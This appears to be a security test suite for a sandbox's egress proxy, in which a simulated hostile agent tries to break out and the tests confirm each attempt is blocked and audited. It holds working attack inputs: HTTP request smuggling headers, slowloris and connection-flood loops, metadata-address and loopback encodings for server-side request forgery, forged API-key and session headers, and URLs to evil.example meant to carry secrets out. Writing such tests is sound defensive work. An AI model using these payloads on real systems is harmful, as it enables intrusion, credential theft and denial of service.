import { hostname } from 'node:os';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Attacker, createHostileWorld, type HostileWorld, KEY } from './world.js';

let world: HostileWorld;
let mallory: Attacker;

beforeAll(async () => {
  world = await createHostileWorld({
    agents: {
      mallory: {},
      webber: { egress: 'web' },
      lister: { egress: ['allowed.example', '*.wild.example', 'localhost'] },
    },
  });
  mallory = world.agent('mallory');
});
afterAll(() => world.close());

/** The bystander's own door, while somebody else besieges his. */
const doorOpen = async () => {
  const { status } = await world.bystander.runs<{ status: number }>(ASK);
  expect(status).toBe(200);
};
const BODY = JSON.stringify({ model: 'm', max_tokens: 1, messages: [{ role: 'user', content: 'x' }] });
const ASK = `return ask('POST', '/v1/messages', { 'content-type': 'application/json' }, ${JSON.stringify(BODY)});`;

it('connections to anything', () =>
  world.tries('TCP, UDP, DNS, the metadata address, the host, the Docker socket, raw sockets', async () => {
    const got = await mallory.runs<string[]>(`
      const udp = () => new Promise((done) => { const s = dgram.createSocket('udp4'); s.send('x', 53, '1.1.1.1', (error) => { s.close(); done(error?.code); }); });
      const tcp = ['1.1.1.1', '169.254.169.254', '172.17.0.1', '10.0.0.1'];
      return [...await Promise.all(tcp.map((host) => say({ host, port: 80 }))), await say({ host: '127.0.0.1', port: ${world.api.port} }),
        await udp(), await dns.resolve4('example.com').catch((error) => error.code), await dns.lookup('example.com').catch((error) => error.code),
        await say({ path: '/var/run/docker.sock' }), await say({ path: '\\0/var/run/docker.sock' }),
        sh('perl', '-e', 'use Socket; print socket(S, AF_INET, SOCK_RAW, 1) ? "raw" : "$!"').said,
        sh('perl', '-e', 'print syscall(41, 17, 3, 768) < 0 ? "$!" : "packet"').said];`);
    expect(got.join(' ')).not.toMatch(/silence|closed|raw|packet/);
    return [...new Set(got)].join(', ');
  }));

it.each([
  ['GET /v1/files', "ask('GET', '/v1/files')", 404],
  ['POST /v1/messages/batches', "ask('POST', '/v1/messages/batches', {}, '{}')", 404],
  ['POST /v1/messages/../files', "ask('POST', '/v1/messages/../files', {}, '{}')", 404],
  ['POST /v1//messages', "ask('POST', '/v1//messages', {}, '{}')", 404],
  ['plain http to another host', "ask('GET', 'http://example.com/')", 403],
  ['an upgrade', "ask('GET', '/', { connection: 'upgrade', upgrade: 'websocket' })", 404],
  ['a compressed body', `ask('POST', '/v1/messages', { 'content-encoding': 'gzip' }, '{}')`, 415],
  ['mcp_servers', body({ mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] }), 403],
  [
    'mcp_servers, spelled with escapes',
    `ask('POST', '/v1/messages', {}, '{"messages":[],"mcp_\\\\u0073ervers":[]}')`,
    403,
  ],
  ['a container', body({ container: 'c_1' }), 403],
  ['a server tool', body({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }), 403],
  [
    'a URL source',
    body({
      messages: [
        {
          role: 'user',
          content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example/?secret' } }],
        },
      ],
    }),
    403,
  ],
  [
    'a stored file',
    body({
      messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'f' } }] }],
    }),
    403,
  ],
  ['33 MB', "ask('POST', '/v1/messages', {}, '\"' + 'x'.repeat(33 * 2 ** 20) + '\"')", 413],
  ['JSON 10 000 levels deep', "ask('POST', '/v1/messages', {}, '['.repeat(10000))", 400],
])('the model route: %s', (what, code, status) =>
  world.tries(`model route: ${what}`, async () => {
    const calls = world.api.seen.length;
    const got = await mallory.runs<{ status: number; said: string }>(`return ${code};`);
    expect(got.status).toBe(status);
    expect(world.api.seen.slice(calls)).toEqual([]);
    return `${status} ${/egress-[a-z-]+/.exec(got.said)?.[0] ?? ''}`;
  }),
);

function body(more: object): string {
  const text = JSON.stringify({ ...JSON.parse(BODY), ...more });
  return `ask('POST', '/v1/messages', {}, ${JSON.stringify(text)})`;
}

it('credentials and identities of its own', () =>
  world.tries(
    'own x-api-key, authorization, cookie, x-forwarded-for, proxy and session headers',
    async () => {
      const { status } = await mallory.runs<{ status: number }>(`
      return ask('POST', '/v1/messages', { 'x-api-key': 'stolen', authorization: 'Bearer stolen', cookie: 'a=b', 'proxy-authorization': 'Basic eDp5',
        'x-forwarded-for': '1.2.3.4', 'x-wharfie-session': '${world.bystander.sessionId()}', 'anthropic-organization': 'other' }, ${JSON.stringify(BODY)});`);
      expect(status).toBe(200);
      const headers = world.api.seen.at(-1)?.headers ?? {};
      expect(headers['x-api-key']).toBe(KEY);
      expect(JSON.stringify(headers)).not.toMatch(/stolen|a=b|eDp5|1\.2\.3\.4|session|organization/);
      return "taken off; the host's own key was set";
    },
  ));

it('smuggled requests', () =>
  world.tries('smuggling: two lengths, length and chunks, a space before the colon, bare LF', async () => {
    const calls = world.api.seen.length;
    const got = await mallory.runs<string[]>(`
      const evil = 'GET /v1/files HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n';
      return Promise.all(['content-length: 4\\r\\ncontent-length: 40', 'content-length: 4\\r\\ntransfer-encoding: chunked', 'transfer-encoding: chunked, identity',
        'content-length : 4', 'content-length: +4', 'x: a\\n b\\nhost: y'].map((lines) => door('POST /v1/messages HTTP/1.1\\r\\nhost: x\\r\\n' + lines + '\\r\\n\\r\\n0\\r\\n\\r\\n' + evil)));`);
    for (const answer of got) expect(answer).toMatch(/^HTTP\/1\.1 40[04]|^closed/);
    expect(world.api.seen.slice(calls)).toEqual([]);
    return '400, and the connection is closed';
  }));

it('headers without end, a slow loris, a flood of requests on one connection', () =>
  world.tries(
    'headers of 1 MB; 200 connections that say a byte a second; 2 million requests in one connection',
    async () => {
      const large = await mallory.runs<string>(
        "return door('GET / HTTP/1.1\\r\\nhost: x\\r\\nx: ' + 'a'.repeat(1e6));",
      );
      expect(large).toMatch(/^HTTP\/1\.1 431|EPIPE|ECONNRESET/);
      const before = world.rssMb();
      const held = await mallory.runs<number>(`
      const sockets = Array.from({ length: 200 }, () => net.connect('/run/wharfie/egress.sock').on('error', () => {}));
      for (const socket of sockets) socket.write('POST /v1/messages HTTP/1.1\\r\\nx: ');
      setInterval(() => { for (const socket of sockets) if (!socket.destroyed) socket.write('y'); }, 1000);
      await sleep(1500);
      const open = sockets.filter((socket) => !socket.destroyed).length;
      await finish(open);
      await sleep(20000);`);
      expect(held).toBeLessThanOrEqual(64);
      await doorOpen();
      await world.agent('webber').runs(`
      const flood = Buffer.from('GET / HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'.repeat(20000));
      const socket = net.connect('/run/wharfie/egress.sock').on('error', () => {});
      for (let i = 0; i < 100 && !socket.destroyed; i++) await new Promise((next) => { socket.once('close', next); socket.write(flood, next); });`);
      await doorOpen();
      expect(world.rssMb() - before).toBeLessThan(300);
      return '431; at most 64 connections a session, closed after 15 s; closed after 4 unanswered requests';
    },
  ));

it('connections opened and dropped as fast as it can', () =>
  world.tries('connecting as fast as it can for 3 s', async () => {
    const flooding = mallory.runs<number>(`
      const code = "const net = require('net'); let n = 0; const go = () => { const s = net.connect('/run/wharfie/egress.sock'); s.on('error', () => {}); s.on('close', go); s.on('connect', () => s.destroy()); }; for (let i = 0; i < 50; i++) go(); setTimeout(() => process.exit(), 3000);";
      await Promise.all([1, 2, 3].map(() => new Promise((done) => child.spawn('node', ['-e', code]).on('exit', done))));
      return 1;`);
    for (let i = 0; i < 5; i += 1) await doorOpen();
    await flooding;
    return 'the others are served meanwhile';
  }));

const connect = (authority: string) =>
  `(await door('CONNECT ${authority} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')).split('\\r\\n')[0] + ' ' + (await door('CONNECT ${authority} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n')).match(/egress-[a-z-]+/)?.[0]`;

it.each([
  ['mallory', 'example.com:443', 'egress-policy-model'],
  ['webber', 'localhost:443', 'egress-address'],
  ['webber', '127.0.0.1:443', 'egress-address'],
  ['webber', '0x7f.1:443', 'egress-address'],
  ['webber', '2130706433:443', 'egress-address'],
  ['webber', '[::1]:443', 'egress-address'],
  ['webber', '[::ffff:169.254.169.254]:443', 'egress-address'],
  ['webber', '[64:ff9b::a9fe:a9fe]:443', 'egress-address'],
  ['webber', '169.254.169.254:443', 'egress-address'],
  ['webber', '10.0.0.1:443', 'egress-address'],
  ['webber', `${hostname()}:443`, 'egress-address'],
  ['webber', 'example.com:22', 'egress-port'],
  ['webber', 'a b:443', 'undefined'],
  ['webber', 'user@127.0.0.1:443', 'egress-authority'],
  ['lister', 'localhost:443', 'egress-address'],
  ['lister', 'allowed.example:8443', 'egress-not-listed'],
  ['lister', 'evil-allowed.example:443', 'egress-not-listed'],
  ['lister', 'allowed.example.evil.example:443', 'egress-not-listed'],
  ['lister', 'wild.example:443', 'egress-not-listed'],
  ['lister', '127.0.0.1:443', 'egress-not-listed'],
])('%s asks for a tunnel to %s', (name, authority, reason) =>
  world.tries(
    `CONNECT ${authority} (${name === 'mallory' ? 'model' : name === 'webber' ? 'web' : 'list'})`,
    async () => {
      const got = await world.agent(name).runs<string>(`return ${connect(authority)};`);
      expect(got).toMatch(/^HTTP\/1\.1 40[03]/);
      expect(got).toContain(reason);
      return got.replace('HTTP/1.1 ', '').replace(' undefined', '');
    },
  ),
);

it('each refusal is on record, under the name of who asked', () =>
  world.tries('asking under the name of another session', async () => {
    const rows = world.audit().filter(({ action }) => action === 'egress.denied');
    const sessions = new Set(rows.map(({ detail }) => JSON.stringify(detail).match(/ses_\w+/)?.[0]));
    expect(sessions).toEqual(
      new Set([mallory, world.agent('webber'), world.agent('lister')].map((one) => one.sessionId())),
    );
    expect(rows.length).toBeGreaterThan(20);
    return `${rows.length} rows in the audit, none under the name of another`;
  }));
